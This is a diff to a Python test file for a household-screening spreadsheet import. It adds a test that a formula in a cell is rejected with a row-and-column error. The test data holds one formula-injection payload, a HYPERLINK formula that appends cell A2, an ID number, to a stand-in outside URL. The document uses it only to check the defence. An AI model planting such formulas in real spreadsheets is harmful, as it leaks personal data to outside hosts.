@@ -14,6 +14,7 @@ from openpyxl import load_workbook
 from accounts.roles import Role
 from core.errors import DomainError, TransitionNotAllowed
 from households.choices import VisitKind
+from households.imports.columns import FORMULA_REFUSED
 from households.models import Visit
 from monitoring.choices import EntryState
 from notifications.models import Notification
@@ -108,6 +109,14 @@ def test_bad_rows_and_wrong_columns_are_named_and_nothing_is_saved(world):
         _upload(world, [[world.sick_member.id_number, "x"]], header=["姓名", "详情"])
     assert {error.column for error in columns.value.errors} == {"身份证号", "预警类型"}
     assert not ScreeningBatch.objects.exists()
+    assert not ScreeningWarning.objects.exists()
+
+
+def test_a_formula_in_a_screening_list_is_refused_naming_row_and_column(world):
+    rows = [[world.sick_member.id_number, "", "", "确诊大病重病", None, None, '=HYPERLINK("http://x/?"&A2)', ""]]
+    with pytest.raises(ScreeningRejected) as rejected:
+        _upload(world, rows)
+    assert [str(error) for error in rejected.value.errors] == [f"第 2 行“{HEADER[6]}”：{FORMULA_REFUSED}"]
     assert not ScreeningWarning.objects.exists()
 
 
